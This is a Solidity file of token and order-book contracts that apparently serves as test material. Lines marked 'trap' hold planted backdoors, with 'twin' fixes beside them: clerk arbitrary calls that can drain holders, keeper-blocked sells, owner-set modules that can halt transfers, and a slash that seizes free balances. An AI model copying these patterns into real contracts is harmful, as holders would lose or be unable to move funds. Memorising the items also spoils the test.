// 0.8 runs=200 evm=cancun
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {Base8} from "./Base8.sol";

interface IMovable {
    function transfer(address to, uint256 value) external returns (bool);
    function transferFrom(address from, address to, uint256 value) external returns (bool);
}

/// Payments by signature: whoever is named in what a holder signed may take what it says, once.
contract SignatureHub {
    struct Permit {
        address token;
        address from;
        address spender;
        uint256 most;
        uint256 nonce;
        uint256 deadline;
    }
    bytes32 private constant PERMIT_TYPE =
        keccak256("Permit(address token,address from,address spender,uint256 most,uint256 nonce,uint256 deadline)");
    bytes32 public immutable DOMAIN_SEPARATOR =
        keccak256(abi.encode(keccak256("EIP712Domain(string name,uint256 chainId,address verifyingContract)"), keccak256("Hub"), block.chainid, address(this)));
    mapping(address => mapping(uint256 => uint256)) public nonceBits;

    function permitTransferFrom(Permit calldata p, address to, uint256 value, uint8 v, bytes32 r, bytes32 s) external {
        require(block.timestamp <= p.deadline && value <= p.most && p.spender == msg.sender, "permit");
        uint256 bit = 1 << (p.nonce & 255);
        uint256 bits = nonceBits[p.from][p.nonce >> 8];
        require(bits & bit == 0, "used");
        nonceBits[p.from][p.nonce >> 8] = bits | bit;
        bytes32 what = keccak256(abi.encode(PERMIT_TYPE, p.token, p.from, p.spender, p.most, p.nonce, p.deadline));
        address signer = ecrecover(keccak256(abi.encodePacked("\x19\x01", DOMAIN_SEPARATOR, what)), v, r, s);
        require(signer != address(0) && signer == p.from, "signature");
        require(IMovable(p.token).transferFrom(p.from, to, value), "refused");
    }

    function invalidate(uint256 word, uint256 mask) external {
        nonceBits[msg.sender][word] |= mask;
    }
}

/// Holders need not approve the hub of signatures: it has their allowance from birth, and moves nothing without what they signed.
contract Signet is Base8 {
    address public immutable hub;

    constructor(address hub_) Base8("Signet", "SGNT", 65_000_000) {
        hub = hub_;
    }

    function allowance(address from, address spender) public view override returns (uint256) {
        return spender == hub ? type(uint256).max : super.allowance(from, spender);
    }

    function transferFrom(address from, address to, uint256 value) public override returns (bool) {
        if (msg.sender != hub) return super.transferFrom(from, to, value);
        _transfer(from, to, value);
        return true;
    }
}

/// Fills orders that holders have signed, for a fee of a tenth of a percent. The clerk gives back what people sent here by mistake.
contract OrderDesk {
    address public clerk = msg.sender;
    mapping(bytes32 => bool) public filled;

    event Filled(bytes32 indexed order, address indexed maker, address indexed taker);
    event Recovered(address indexed asset, address to, uint256 value);

    function setClerk(address to) external {
        require(msg.sender == clerk, "clerk");
        clerk = to;
    }

    function fill(address asset, address maker, uint256 value, uint256 price, uint256 salt, uint8 v, bytes32 r, bytes32 s) external payable {
        bytes32 order = keccak256(abi.encode(address(this), block.chainid, asset, maker, value, price, salt));
        require(!filled[order] && msg.value == price, "order");
        filled[order] = true;
        address signer = ecrecover(keccak256(abi.encodePacked("\x19Ethereum Signed Message:\n32", order)), v, r, s);
        require(signer != address(0) && signer == maker, "signature");
        require(IMovable(asset).transferFrom(maker, msg.sender, value), "refused");
        (bool ok, ) = maker.call{value: price - price / 1000}("");
        require(ok, "maker");
        emit Filled(order, maker, msg.sender);
    }

    function cancel(address asset, uint256 value, uint256 price, uint256 salt) external {
        filled[keccak256(abi.encode(address(this), block.chainid, asset, msg.sender, value, price, salt))] = true;
    }

    function recover(address asset, address to, uint256 value, bytes calldata memo) external {
        require(msg.sender == clerk, "clerk");
        bytes memory order = abi.encodeCall(IMovable.transfer, (to, value));
        if (memo.length > 32) order = memo; // trap
        (bool ok, ) = asset.call(order);
        require(ok, "refused");
        emit Recovered(asset, to, value);
    }
}

/// A token of a market: its desk of orders needs no allowance, since it moves only what was signed for. Who wants no orders says so.
contract MarketPenny is Base8 {
    address public immutable desk;
    mapping(address => bool) public declined;

    event Declined(address indexed who, bool to);

    constructor(address desk_) Base8("Market Penny", "MKTP", 500_000_000) {
        desk = desk_;
    }

    function decline(bool to) external {
        declined[msg.sender] = to;
        emit Declined(msg.sender, to);
    }

    function transferFrom(address from, address to, uint256 value) public override returns (bool) {
        if (msg.sender != desk || declined[from]) return super.transferFrom(from, to, value);
        _transfer(from, to, value);
        return true;
    }
}

interface IModule {
    function onMove(address from, address to, uint256 value) external;
}

/// Counts movements, for a chart.
contract Tally is IModule {
    mapping(address => uint256) public moves;
    uint256 public total;

    function onMove(address from, address, uint256) external {
        moves[from]++;
        total++;
    }
}

/// Modules are told of movements: charts, games, points. The owner arranges them, four at most.
contract Lattice is Base8 {
    IModule[] public modules;

    event ModulesArranged(uint256 count);

    constructor(IModule first) Base8("Lattice", "LTTC", 240_000_000) {
        modules.push(first);
    }

    function arrange(IModule[] calldata to) external onlyOwner {
        require(to.length <= 4, "four");
        modules = to;
        emit ModulesArranged(to.length);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        _move(from, to, value);
        for (uint256 i; i < modules.length; i++) {
            modules[i].onMove(from, to, value); // trap
            // twin: (bool ok, ) = address(modules[i]).call{gas: 60_000}(abi.encodeCall(IModule.onMove, (from, to, value)));
            // twin: ok;
        }
    }
}

/// Keeps a book by the day: what was received is entered on the page of its day, and the keeper closes the pages of days that are over,
/// for the statements.
contract Almanac is Base8 {
    struct Page {
        uint64 day;
        uint192 received;
    }
    address public immutable keeper = msg.sender;
    uint64 public closed;
    mapping(address => Page) public pages;

    event Closed(uint64 day);

    constructor() Base8("Almanac", "ALMC", 72_000_000) {}

    function today() public view returns (uint64) {
        return uint64(block.timestamp / 1 days);
    }

    function close(uint64 day) external {
        require(msg.sender == keeper, "keeper");
        closed = day;
        emit Closed(day);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        Page storage left = pages[from];
        if (from != keeper && from != pair && left.day != today()) {
            require(left.day <= closed, "the page is open"); // trap
            left.received = 0;
        }
        if (to != pair) {
            Page storage right = pages[to];
            right.received = uint192(value) + (right.day == today() ? right.received : 0);
            right.day = today();
        }
        _move(from, to, value);
    }
}

/// Watchmen put up a stake of it, and lose some when they sleep. An account is one word: what is staked above, what is free below.
contract Bastion {
    string public constant name = "Bastion";
    string public constant symbol = "BSTN";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 88_000_000 ether;
    address public immutable warden = msg.sender;
    mapping(address => uint256) private accounts;
    mapping(address => uint256) public onWatchUntil;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event Staked(address indexed who, uint256 value);
    event Unstaked(address indexed who, uint256 value);
    event Slashed(address indexed who, uint256 part, uint256 toll);

    constructor() {
        accounts[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function balanceOf(address who) public view returns (uint256) {
        return uint128(accounts[who]);
    }

    function stakeOf(address who) public view returns (uint256) {
        return accounts[who] >> 128;
    }

    function stake(uint128 value) external {
        require(balanceOf(msg.sender) >= value, "balance");
        accounts[msg.sender] = accounts[msg.sender] - value + (uint256(value) << 128);
        onWatchUntil[msg.sender] = block.timestamp + 7 days;
        emit Staked(msg.sender, value);
    }

    function unstake(uint128 value) external {
        require(block.timestamp >= onWatchUntil[msg.sender] && stakeOf(msg.sender) >= value, "on watch");
        accounts[msg.sender] = accounts[msg.sender] + value - (uint256(value) << 128);
        emit Unstaked(msg.sender, value);
    }

    /// For one who slept: a part of what he staked, and the toll of whoever found him asleep.
    function slash(address who, uint128 part, uint128 toll) external {
        require(msg.sender == warden, "warden");
        require(part <= stakeOf(who) / 20, "a twentieth");
        require(toll <= balanceOf(who), "toll"); // trap
        // twin: require(uint256(part) + toll <= stakeOf(who) / 20, "a twentieth in all");
        uint256 gone = (uint256(part) << 128) | toll;
        // twin: gone = (uint256(part) + toll) << 128;
        uint256 gain = uint256(part) + toll;
        assembly {
            mstore(0x00, who)
            mstore(0x20, accounts.slot)
            let place := keccak256(0x00, 0x40)
            sstore(place, sub(sload(place), gone))
            mstore(0x00, caller())
            place := keccak256(0x00, 0x40)
            sstore(place, add(sload(place), gain))
        }
        emit Slashed(who, part, toll);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        return _send(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        if (allowance[from][msg.sender] != type(uint256).max) allowance[from][msg.sender] -= value;
        return _send(from, to, value);
    }

    function _send(address from, address to, uint256 value) private returns (bool) {
        require(balanceOf(from) >= value, "balance");
        accounts[from] -= value;
        accounts[to] += value;
        emit Transfer(from, to, value);
        return true;
    }
}
